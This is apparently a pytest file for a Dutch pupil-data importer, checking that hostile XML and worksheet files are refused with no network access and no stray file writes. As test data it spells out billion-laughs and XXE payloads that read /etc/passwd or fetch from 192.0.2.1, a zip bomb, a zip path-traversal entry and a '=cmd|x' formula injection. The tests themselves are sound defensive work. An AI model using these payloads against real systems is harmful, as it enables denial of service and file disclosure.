"""Files that mean harm: refused with a reason; no socket is opened and nothing is written outside."""

import io
import socket
import zipfile
from pathlib import Path
from typing import Any
from zipfile import ZIP_DEFLATED, ZipFile

import pytest

from dms.db.tables import PupilRow
from dms.kernel.errors import BadInput
from dms.services.pupil_import import PupilImport
from ingest.sources import worksheet as reader
from ingest.sources.pupil_file import read_pupil_file
from tests.lvs.files import edex, leerling, worksheet
from tests.pupils.conftest import OPERATOR, Office

PUPIL = leerling("K1", achternaam="Berg", roepnaam="Sem")
WHOLE = edex(PUPIL)


def with_dtd(dtd: str, name: str = "&boos;") -> str:
    """A file with a document type; `name` in the place of a surname."""
    head, _, rest = WHOLE.partition("\n")
    return f"{head}\n{dtd}\n{rest.replace('Berg', name)}"


LAUGHS = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10 if i else "ha"}">' for i in range(12))
HOSTILE = {
    "billion laughs": (with_dtd(f"<!DOCTYPE EDEX [{LAUGHS}]>", "&l11;"), "xml_unsafe"),
    "quadratic": (with_dtd(f'<!DOCTYPE EDEX [<!ENTITY q "{"x" * 50_000}">]>', "&q;" * 5_000), "xml_unsafe"),
    "external entity": (with_dtd('<!DOCTYPE EDEX [<!ENTITY boos SYSTEM "file:///etc/passwd">]>'), "xml_unsafe"),
    "external over the network": (
        with_dtd('<!DOCTYPE EDEX [<!ENTITY boos SYSTEM "http://192.0.2.1/geheim">]>'),
        "xml_unsafe",
    ),
    "parameter entity": (
        with_dtd('<!DOCTYPE EDEX [<!ENTITY % p SYSTEM "http://192.0.2.1/p"> %p;]>', "x"),
        "xml_unsafe",
    ),
    "external document type": (with_dtd('<!DOCTYPE EDEX SYSTEM "http://192.0.2.1/edex.dtd">', "x"), "xml_unsafe"),
    "deeply nested": (WHOLE.replace("<leerlingen>", "<a>" * 500), "not_edex"),
    "endless name": (WHOLE.replace("Berg", "x" * 10_000), "not_edex"),
    "cut off": (WHOLE[:-40], "xml_broken"),
    "two roots": (WHOLE + "<EDEX/>", "xml_broken"),
    "another kind of XML": ("<html><body>leerlingen</body></html>", "not_edex"),
    "an undefined entity": (WHOLE.replace("Berg", "&boos;"), "xml_broken"),
}


@pytest.fixture
def no_sockets(monkeypatch: pytest.MonkeyPatch) -> list[Any]:
    """Every attempt to open a socket fails and is remembered."""
    tried: list[Any] = []

    def refuse(*words: Any, **more: Any) -> None:
        tried.append(words)
        raise OSError("no network")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    return tried


def code_of(data: str | bytes, office: Office) -> str:
    """The code of the refusal of a whole file."""
    with pytest.raises(BadInput) as refused:
        PupilImport(office.tools).run(OPERATOR, "99XX", office.file(data), apply=True)
    assert refused.value.advice
    assert "passwd" not in refused.value.text()
    return refused.value.code


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_xml(sqlite_office: Office, no_sockets: list[Any], name: str) -> None:
    text, code = HOSTILE[name]
    before = sorted(sqlite_office.folder.rglob("*"))
    assert code_of(text, sqlite_office) == code
    added = [x for x in sorted(sqlite_office.folder.rglob("*")) if x not in before]
    assert [x.name for x in added if "sqlite" not in x.name] == ["lijst0.csv"]
    assert no_sockets == []
    assert sqlite_office.rows(PupilRow) == []


def test_no_school_year_and_another_school(sqlite_office: Office) -> None:
    assert code_of(WHOLE.replace("<schooljaar>2025-2026</schooljaar>", ""), sqlite_office) == "school_year_missing"
    assert code_of(WHOLE.replace("2025-2026", "dit jaar"), sqlite_office) == "school_year_missing"
    assert code_of(WHOLE.replace("99XX", "99ZZ"), sqlite_office) == "other_school"
    assert code_of(edex(), sqlite_office) == "empty"


def bomb() -> bytes:
    """A worksheet of some hundreds of kilobytes that unpacks to hundreds of megabytes."""
    out = io.BytesIO(worksheet(("Leerlingnummer", "Roepnaam", "Achternaam"), (1, "Sem", "Berg")))
    rows = b"<row><c t='inlineStr'><is><t>" + b"x" * 1_000_000 + b"</t></is></c></row>"
    with ZipFile(out, "a", ZIP_DEFLATED) as archive, archive.open("xl/worksheets/sheet9.xml", "w") as entry:
        for _ in range(200):
            entry.write(rows)
    return out.getvalue()


@pytest.mark.slow
def test_a_worksheet_that_is_a_bomb(sqlite_office: Office, no_sockets: list[Any]) -> None:
    data = bomb()
    assert len(data) < 2_000_000
    assert code_of(data, sqlite_office) == "bomb"
    assert no_sockets == []


@pytest.mark.slow
def test_a_worksheet_that_lies_about_its_size(sqlite_office: Office) -> None:
    """The directory says one kilobyte, the entry holds ten megabytes: reading stops where the directory says."""
    data = bytearray(
        worksheet(("Leerlingnummer", "Roepnaam", "Achternaam"), *[(x, "Sem", "Berg" * 50) for x in range(9000)])
    )
    with ZipFile(io.BytesIO(bytes(data))) as archive:
        entry = archive.getinfo("xl/worksheets/sheet1.xml")
    where = data.rindex(b"xl/worksheets/sheet1.xml") - 46
    assert int.from_bytes(data[where + 24 : where + 28], "little") == entry.file_size
    data[where + 24 : where + 28] = (1024).to_bytes(4, "little")
    assert code_of(bytes(data), sqlite_office) == "not_xlsx"


@pytest.mark.parametrize("part", ["xl/workbook.xml", "xl/worksheets/sheet1.xml", "[Content_Types].xml"])
def test_a_document_type_inside_a_worksheet(sqlite_office: Office, no_sockets: list[Any], part: str) -> None:
    source = ZipFile(io.BytesIO(worksheet(("Leerlingnummer", "Roepnaam"), (1, "Sem"))))
    out = io.BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as target:
        for entry in source.infolist():
            data = source.read(entry)
            if entry.filename == part:
                head = b'<!DOCTYPE x [<!ENTITY boos SYSTEM "http://192.0.2.1/geheim">]>'
                start = data.index(b"<", data.index(b"?>") + 2 if b"?>" in data else 0)
                data = data[:start] + head + data[start:]
            target.writestr(entry.filename, data)
    assert code_of(out.getvalue(), sqlite_office) == "not_xlsx"
    assert no_sockets == []


def test_names_in_a_worksheet_never_become_paths(sqlite_office: Office, tmp_path: Path) -> None:
    out = io.BytesIO(worksheet(("Leerlingnummer", "Roepnaam", "Achternaam"), (1, "Sem", "Berg")))
    with ZipFile(out, "a") as archive:
        archive.writestr("../../../weg.txt", "x")
    before = set(tmp_path.parent.rglob("weg.txt"))
    assert sqlite_office.run(out.getvalue()).counts["new"] == 1
    assert set(tmp_path.parent.rglob("weg.txt")) == before


def test_other_worksheets_that_will_not_do(sqlite_office: Office, monkeypatch: pytest.MonkeyPatch) -> None:
    out = io.BytesIO()
    with ZipFile(out, "w") as archive:
        archive.writestr("lees mij.txt", "geen werkblad")
    assert code_of(out.getvalue(), sqlite_office) == "not_xlsx"
    whole = worksheet(("Leerlingnummer", "Roepnaam"), (1, "Sem"))
    assert code_of(whole[: len(whole) // 2], sqlite_office) == "not_xlsx"
    assert code_of(b"\xd0\xcf\x11\xe0" + b"\0" * 600, sqlite_office) == "old_worksheet"
    locked = bytearray(whole)
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        where = locked.index(mark)
        locked[where + at] |= 1
    assert code_of(bytes(locked), sqlite_office) == "encrypted"
    packed = io.BytesIO()
    with ZipFile(packed, "w", zipfile.ZIP_LZMA) as archive:
        archive.writestr("xl/workbook.xml", "x" * 1000)
    assert code_of(packed.getvalue(), sqlite_office) == "not_xlsx"
    monkeypatch.setattr(reader, "MOST_ENTRIES", 2)
    assert code_of(whole, sqlite_office) == "bomb"


def test_files_that_are_too_large(sqlite_office: Office, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("ingest.sources.pupil_file.MOST_XML_BYTES", 1000)
    monkeypatch.setattr("ingest.sources.pupil_file.MOST_LIST_BYTES", 1000)
    assert code_of(WHOLE + " " * 1000, sqlite_office) == "too_large"
    assert code_of("leerlingnummer;roepnaam\n" + "1;Sem\n" * 500, sqlite_office) == "too_large"


def test_formulas_are_text_and_nothing_is_calculated(sqlite_office: Office) -> None:
    report = sqlite_office.run(
        worksheet(("Leerlingnummer", "Roepnaam", "Achternaam"), (1, "=1+1", "Berg"), (2, "'=cmd|x", "Smit"))
    )
    assert [x.outcome.value for x in report.rows] == ["new", "new"]
    assert sorted(x.given_name for x in sqlite_office.rows(PupilRow)) == ["", "=cmd|x"]


def test_reading_goes_on_where_only_the_schema_is_broken(sqlite_office: Office) -> None:
    odd = WHOLE.replace("<groepen>", "<onzin><x/></onzin><groepen>").replace("<leerling ", "<leerling kleur='x' ")
    odd = odd.replace("</leerling>", "<huisdier>kat</huisdier><geslacht>7</geslacht></leerling>")
    report = sqlite_office.run(odd)
    assert [x.code for x in report.notes][:3] == ["xml_unknown", "xml_unknown", "xml_unknown"]
    assert {str(x.reason.params.get("name")) for x in report.notes} >= {"onzin", "huisdier", "geslacht"}
    assert all(int(x.reason.params["line"]) > 1 for x in report.notes)
    assert report.counts["new"] == 1


def test_a_file_with_blocks_of_a_vendor(sqlite_office: Office) -> None:
    """`toevoegingen` is passed over, whatever is in it."""
    block = "<toevoegingen><leerling key='X'><achternaam>Vals</achternaam></leerling></toevoegingen>"
    report = sqlite_office.run(WHOLE.replace("</leerling>", f"{block}</leerling>"))
    assert report.notes == ()
    assert [x.surname for x in sqlite_office.rows(PupilRow)] == ["Berg"]


def test_namespaces_and_prefixes_do_not_matter(sqlite_office: Office) -> None:
    fields = '<e:achternaam>Berg</e:achternaam><e:roepnaam>Sem</e:roepnaam><e:groep e:key=" G7 "/>'
    text = (
        '<?xml version="1.0"?><e:EDEX xmlns:e="urn:willekeurig"><e:school><e:schooljaar>2025-2026</e:schooljaar>'
        "<e:brincode>99XX</e:brincode></e:school><e:groepen><e:groep e:key='G7'><e:naam>groep 7</e:naam></e:groep>"
        f"</e:groepen><e:leerlingen><e:leerling e:key=' K1 '>{fields}</e:leerling></e:leerlingen></e:EDEX>"
    )
    with sqlite_office.file(text).open("rb") as file:
        read = read_pupil_file(file, "99XX", sqlite_office.clock.day)
    (record,) = [x.record for x in read.rows]
    assert record is not None
    assert record.key is not None
    assert (record.key.value, record.surname, record.stints[0].group) == ("K1", "Berg", "groep 7")
